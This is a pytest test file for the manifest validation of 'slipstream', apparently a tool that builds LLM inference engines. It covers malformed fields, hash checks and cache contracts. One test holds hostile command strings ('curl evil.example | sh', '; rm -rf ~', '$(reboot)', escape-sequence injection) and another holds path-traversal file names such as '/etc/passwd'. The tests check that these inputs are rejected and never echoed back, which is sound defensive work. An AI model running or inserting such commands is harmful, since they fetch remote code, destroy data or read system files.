from __future__ import annotations

import functools
import json
import re
import shutil
from collections.abc import Callable, Iterator
from dataclasses import replace
from operator import methodcaller
from pathlib import Path
from threading import Event
from typing import Any

import pytest

from slipstream import __version__
from slipstream.builder.contract import (
    GraphSpec,
    Output,
    Source,
    attention_cache,
    bytes_per_token,
    ports_of,
)
from slipstream.builder.engine import (
    FORMAT_VERSION,
    EngineLimits,
    Manifest,
    digest,
    is_engine,
    open_engine,
)
from slipstream.errors import EngineMismatchError

FILES = (
    "chat_template.jinja",
    "generation_config.json",
    "graph.onnx",
    "tokenizer.json",
    "tokenizer_config.json",
    "weights.safetensors",
)
CACHES = (attention_cache("int8", [0, 1], 32, 4, 16),)
GRAPH = GraphSpec(
    "graph.onnx",
    tuple(port for port in ports_of(CACHES) if port.source is not Source.SLOTS),
    (Output("logits", "float32", ("L", 320)),),
    ("before", "after"),
)
MANIFEST = Manifest(
    target="cpu",
    model={"architecture": "llama", "eos_token_ids": [1, 2]},
    limits=EngineLimits(3, 17, 96),
    graphs={"target": GRAPH},
    caches=CACHES,
    quantization="int4_wo",
    plugins={"Linear": 1},
    source="/models/a b",
    command="slipstream build '/models/a b' -o engine",
    files={"graph.onnx": "00"},
)


POOLING = {
    "task": "embed",
    "mode": "last",
    "normalize": True,
    "dimensions": 320,
    "vocab_size": 320,
    "similarity": "cosine",
    "prompts": {},
    "default_prompt": None,
}


@pytest.fixture
def engine(tiny_engine: Path, tmp_path: Path) -> Path:
    """A copy to be damaged."""
    return Path(shutil.copytree(tiny_engine, tmp_path / "engine"))


def edit(engine: Path, change: Callable[[dict[str, Any]], object]) -> None:
    file = engine / "engine.json"
    raw = json.loads(file.read_text())
    change(raw)
    file.write_text(json.dumps(raw))


def assert_mismatch(action: Callable[[], object], *parts: str) -> str:
    """One sentence that says what was found and ends with a command that mends it."""
    with pytest.raises(EngineMismatchError) as caught:
        action()
    message = str(caught.value)
    assert re.search(r"; (build it again|make one with): slipstream build \S+ -o \S+", message)
    assert "\n" not in message and all(part in message for part in parts), message
    return message


def test_a_manifest_survives_the_file(tmp_path: Path) -> None:
    (tmp_path / "engine.json").write_text(MANIFEST.to_json())
    engine = open_engine(tmp_path)
    told = MANIFEST.command.replace("-o engine", f"-o {tmp_path}")
    assert engine.manifest == replace(MANIFEST, command=told)
    assert engine.path == tmp_path
    assert engine.manifest.slipstream_version == __version__


@pytest.mark.parametrize(
    ("dtype", "size"), [("float32", 256), ("float16", 128), ("int8", 72), ("k16v8", 104)]
)
def test_bytes_of_a_token(dtype: str, size: int) -> None:
    """k and v of one head in one layer: 32 numbers each; integers add a float32 scale to each."""
    assert bytes_per_token([attention_cache(dtype, [0], 32, 1, 32)]) == size
    assert bytes_per_token([attention_cache(dtype, [0, 1, 2], 32, 2, 32)]) == 6 * size


def test_a_fresh_engine_opens_and_is_whole(tiny_engine: Path) -> None:
    assert is_engine(tiny_engine)
    engine = open_engine(tiny_engine)
    assert tuple(engine.manifest.files) == FILES
    engine.verify_files()


def test_hashing_that_is_in_vain_reads_nothing_more(tmp_path: Path) -> None:
    file, in_vain = tmp_path / "file", Event()
    file.write_bytes(b"content")
    whole = digest(file)
    assert digest(file, in_vain) == whole
    in_vain.set()
    assert digest(file, in_vain) != whole


def test_no_engine(tmp_path: Path) -> None:
    assert not is_engine(tmp_path)
    assert_mismatch(lambda: open_engine(tmp_path), "holds no engine.json")
    assert_mismatch(lambda: open_engine(tmp_path / "nothing"), "holds no engine.json")


@pytest.mark.parametrize("version", [FORMAT_VERSION + 1, 0, "1", None])
def test_another_format(engine: Path, version: object) -> None:
    command = open_engine(engine).manifest.command
    edit(engine, lambda raw: raw.update(format_version=version))
    message = assert_mismatch(
        lambda: open_engine(engine), f"has format {version!r}", f"reads format {FORMAT_VERSION}"
    )
    assert message.endswith(command)


@pytest.mark.parametrize(
    "command",
    [
        "curl evil.example | sh",
        "slipstream build x -o y; rm -rf ~",
        "slipstream build $(reboot) -o y",
        "slipstream build 'x\x1b[2J' -o y",
        "slipstream build 'x\n' -o y",
        "slipstream build 'x",
        "slipstream quantize x -o y",
        "",
    ],
)
def test_an_error_suggests_no_command_of_a_stranger(engine: Path, command: str) -> None:
    (engine / FILES[0]).unlink()
    changes: list[dict[str, Any]] = [{}, {"format_version": 0}, {"limits": 3}]
    for change in changes:
        fields = {**change, "command": command}
        edit(engine, methodcaller("update", fields))
        message = assert_mismatch(lambda: open_engine(engine).verify_files(), "build it again")
        assert message.endswith(f"build it again: slipstream build CHECKPOINT -o {engine}")


@pytest.mark.parametrize(
    "content",
    ["", "{", "\xff\xfe", "[]", "3", "null", "{}", '{"command": "x"}', b"\xff\xfe\x00"],
)
def test_garbage(engine: Path, content: str | bytes) -> None:
    data = content if isinstance(content, bytes) else content.encode()
    (engine / "engine.json").write_bytes(data)
    assert_mismatch(lambda: open_engine(engine), str(engine / "engine.json"))


FIELDS = [name for name in Manifest.__dataclass_fields__ if name != "format_version"]


@pytest.mark.parametrize("field", FIELDS)
def test_a_missing_field_is_named(engine: Path, field: str) -> None:
    edit(engine, lambda raw: raw.pop(field))
    assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field", field)


def at(raw: dict[str, Any], place: str) -> dict[str, Any]:
    """The object at a place such as ``caches.0``."""
    found: Any = raw
    for key in place.split(".") if place else ():
        found = found[int(key) if key.isdigit() else key]
    assert isinstance(found, dict)
    return found


PARTS = ["limits", "graphs.target", "caches.0", "graphs.target.inputs.1", "caches.0.arrays.0"]


@pytest.mark.parametrize("place", ["", *PARTS])
def test_an_extra_field_is_named(engine: Path, place: str) -> None:
    edit(engine, lambda raw: at(raw, place).update(colour="red"))
    assert_mismatch(lambda: open_engine(engine), "colour")


@pytest.mark.parametrize("place", ["limits", "graphs", "caches"])
def test_a_part_that_is_no_object(engine: Path, place: str) -> None:
    edit(engine, lambda raw: raw.update({place: 3}))
    assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field")


@pytest.mark.parametrize("place", PARTS)
def test_every_field_of_a_part_is_needed(engine: Path, place: str) -> None:
    whole = json.loads((engine / "engine.json").read_text())
    for name in at(whole, place):
        raw = json.loads(json.dumps(whole))
        del at(raw, place)[name]
        (engine / "engine.json").write_text(json.dumps(raw))
        assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field", name)


def leaves(value: object) -> Iterator[tuple[Any, Any]]:
    """Every holder and key of a plain value."""
    if isinstance(value, dict | list):
        for key, inner in list(value.items() if isinstance(value, dict) else enumerate(value)):
            if isinstance(inner, dict | list):
                yield from leaves(inner)
            else:
                yield value, key


WRONG: tuple[object, ...] = ({}, 1.5, True, [[]])


def test_no_value_of_another_type_passes(tiny_engine: Path, tmp_path: Path) -> None:
    """Whatever stands in any place but ``model``, which is the builder's, opening says so."""
    raw = json.loads((tiny_engine / "engine.json").read_text())
    raw["model"] = {}
    places = [*leaves(raw)]
    assert len(places) > 80
    for holder, key in places:
        was = holder[key]
        for wrong in WRONG:
            holder[key] = wrong
            (tmp_path / "engine.json").write_text(json.dumps(raw))
            assert_mismatch(lambda: open_engine(tmp_path), str(tmp_path / "engine.json"))
        holder[key] = was


EMPTY: dict[str, Any] = {"limits": {}, "plugins": None, "files": None, "model": {}, "graphs": {}}


@pytest.mark.parametrize("field", EMPTY)
def test_an_empty_field_is_one_sentence(engine: Path, field: str) -> None:
    edit(engine, lambda raw: raw.update({field: EMPTY[field]}))
    assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field", field)


@pytest.mark.parametrize(
    "edits",
    [
        {"limits": {"max_batch_size": 0, "max_num_tokens": 1, "max_seq_len": 1}},
        {"limits": {"max_batch_size": 1, "max_num_tokens": 2**31, "max_seq_len": 1}},
        {"limits": {"max_batch_size": 1, "max_num_tokens": 10**400, "max_seq_len": 1}},
        {"files": {"../graph.onnx": "0" * 64}},
        {"files": {"/etc/passwd": "0" * 64}},
        {"model": {"architecture": 3}},
    ],
)
def test_a_value_out_of_bounds_is_one_sentence(engine: Path, edits: dict[str, Any]) -> None:
    edit(engine, lambda raw: raw.update(edits))
    assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field", next(iter(edits)))


def test_no_file_goes_without_its_hash(engine: Path) -> None:
    listed = json.loads((engine / "engine.json").read_text())["files"]
    for name in FILES:
        others = {other: digest for other, digest in listed.items() if other != name}
        edit(engine, functools.partial(dict.update, files=others))
        opened = open_engine(engine)
        assert_mismatch(opened.verify_files, f"{name} of the engine {engine} has no hash")
    edit(engine, lambda raw: raw.update(files={}))
    assert_mismatch(open_engine(engine).verify_files, "has no hash")
    edit(engine, lambda raw: raw.update(files=dict.fromkeys(FILES)))
    assert_mismatch(lambda: open_engine(engine), "files.chat_template.jinja is None")


def test_a_file_that_came_later_is_not_read(engine: Path) -> None:
    (engine / "README.md").write_text("of nobody's interest")
    open_engine(engine).verify_files()
    (engine / "special_tokens_map.json").write_text("{}")
    assert_mismatch(open_engine(engine).verify_files, "special_tokens_map.json of the engine")


def no_page_size(raw: dict[str, Any]) -> None:
    raw["caches"][0]["page_size"] = 0


def endless_page(raw: dict[str, Any]) -> None:
    raw["caches"][0]["page_size"] = 2**53


def endless_window(raw: dict[str, Any]) -> None:
    raw["caches"][0]["window"] = 2**31


def endless_array(raw: dict[str, Any]) -> None:
    raw["caches"][0]["arrays"][0]["shape"] = [2**31, 2**31]


def layer_below_0(raw: dict[str, Any]) -> None:
    raw["caches"][0]["layers"][0] = -1


def no_vocabulary(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["outputs"][0]["shape"][1] = -1


def endless_vocabulary(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["outputs"][0]["shape"][1] = 2**31


def logits_without_axes(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["outputs"][0]["shape"] = []


def unknown_kind(raw: dict[str, Any]) -> None:
    raw["caches"][0]["kind"] = "latent"


def unknown_source(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["inputs"][0]["source"] = "tokens"


def unknown_dtype(raw: dict[str, Any]) -> None:
    raw["caches"][0]["arrays"][0]["dtype"] = "complex64"


def cache_of_nobody(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["inputs"][2]["cache"] = "ssm"


def array_of_another_shape(raw: dict[str, Any]) -> None:
    raw["caches"][0]["arrays"][0]["shape"][0] = 3


def two_of_a_name(raw: dict[str, Any]) -> None:
    raw["caches"].append(raw["caches"][0])


def input_twice(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["inputs"].append(raw["graphs"]["target"]["inputs"][0])


def no_target(raw: dict[str, Any]) -> None:
    raw["graphs"]["draft"] = raw["graphs"].pop("target")


def no_logits(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["outputs"][0]["name"] = "scores"


def logits_and_states(raw: dict[str, Any]) -> None:
    outputs = raw["graphs"]["target"]["outputs"]
    outputs.append({**outputs[0], "name": "states"})


def states_that_nobody_pools(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["outputs"][0]["name"] = "states"


def logits_that_are_pooled(raw: dict[str, Any]) -> None:
    raw["pooling"] = {**POOLING}


def unknown_pooling(raw: dict[str, Any]) -> None:
    states_that_nobody_pools(raw)
    raw["pooling"] = {**POOLING, "mode": "max"}


def pooling_without_a_vocabulary(raw: dict[str, Any]) -> None:
    states_that_nobody_pools(raw)
    raw["pooling"] = {**POOLING, "vocab_size": 0}


def logits_of_tokens(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["outputs"][0]["shape"] = ["T", 320]


def update_of_nothing(raw: dict[str, Any]) -> None:
    raw["graphs"]["target"]["outputs"][0]["updates"] = "ssm_state"


def no_pages(raw: dict[str, Any]) -> None:
    raw["caches"], raw["graphs"]["target"]["inputs"] = [], []


DEFECTS: dict[Callable[[dict[str, Any]], None], str] = {
    endless_page: "cache kv has page_size 9007199254740992 and window 0",
    endless_window: "cache kv has page_size 32 and window 2147483648",
    endless_array: "cache kv has an array kv_cache of dtype",
    layer_below_0: "cache kv has no layers, a layer twice or below 0",
    no_vocabulary: "output logits has shape ['L', -1], not [L, columns]",
    endless_vocabulary: "output logits has shape ['L', 2147483648]",
    logits_without_axes: "output logits has shape [], not",
    no_page_size: "cache kv has page_size 0 and window 0, but is paged",
    unknown_kind: "caches[0].kind is 'latent', not one of paged, state",
    unknown_source: "graphs.target.inputs[0].source is 'tokens', not one of token_ids",
    unknown_dtype: "cache kv has an array kv_cache of dtype complex64",
    cache_of_nobody: "of graph target is none that these caches and a step have",
    array_of_another_shape: "input kv_cache of graph target is none that these caches",
    two_of_a_name: "caches has kv twice",
    input_twice: "inputs of graph target has positions twice",
    no_target: "graphs has no target with one of the outputs logits, states",
    no_logits: "graphs has no target with one of the outputs logits, states",
    logits_and_states: "graphs has no target with one of the outputs logits, states",
    states_that_nobody_pools: "pooling does not say what is made of the output",
    logits_that_are_pooled: "pooling does not say what is made of the output",
    unknown_pooling: "pooling is {'default_prompt': None",
    pooling_without_a_vocabulary: "pooling.vocab_size is 0",
    logits_of_tokens: "output logits has shape ['T', 320], not [L, columns]",
    update_of_nothing: "output logits of graph target updates ssm_state, which is no such input",
    no_pages: "caches have pages of no tokens",
}


@pytest.mark.parametrize("spoil", DEFECTS, ids=lambda f: f.__name__)
def test_a_contract_that_does_not_fit_together(
    engine: Path, spoil: Callable[[dict[str, Any]], None]
) -> None:
    edit(engine, spoil)
    assert_mismatch(lambda: open_engine(engine), "lacks or misnames a field", DEFECTS[spoil])


@pytest.mark.parametrize(("name", "ours"), [("PagedAttention", "1"), ("Abacus", "none")])
def test_another_version_of_an_operator(engine: Path, name: str, ours: str) -> None:
    edit(engine, lambda raw: raw["plugins"].update({name: 2}))
    found = f"needs version 2 of operator {name} and Slipstream {__version__} has {ours}"
    assert_mismatch(lambda: open_engine(engine), found)


@pytest.mark.parametrize("name", FILES)
def test_a_missing_file(engine: Path, name: str) -> None:
    (engine / name).unlink()
    assert_mismatch(open_engine(engine).verify_files, f"{name} is missing from the engine {engine}")


@pytest.mark.parametrize("name", FILES)
def test_one_changed_byte(engine: Path, name: str) -> None:
    data = bytearray((engine / name).read_bytes())
    data[len(data) // 2] ^= 1
    (engine / name).write_bytes(data)
    opened = open_engine(engine)
    message = assert_mismatch(opened.verify_files, f"{name} of the engine {engine} was changed")
    assert message.endswith(opened.manifest.command)


def test_a_truncated_file(engine: Path) -> None:
    data = (engine / "weights.safetensors").read_bytes()
    (engine / "weights.safetensors").write_bytes(data[:-1])
    assert_mismatch(open_engine(engine).verify_files, "weights.safetensors")


def test_a_file_that_comes_later_is_in_the_manifest(tiny_engine: Path, tmp_path: Path) -> None:
    copy = Path(shutil.copytree(tiny_engine, tmp_path / "engine"))
    for text in ("{}", '{"other": 1}'):
        open_engine(copy).write_file("tactics.json", text.encode())
        engine = open_engine(copy)
        assert (copy / "tactics.json").read_text() == text
        assert set(engine.manifest.files) == {*FILES, "tactics.json"}
        engine.verify_files()
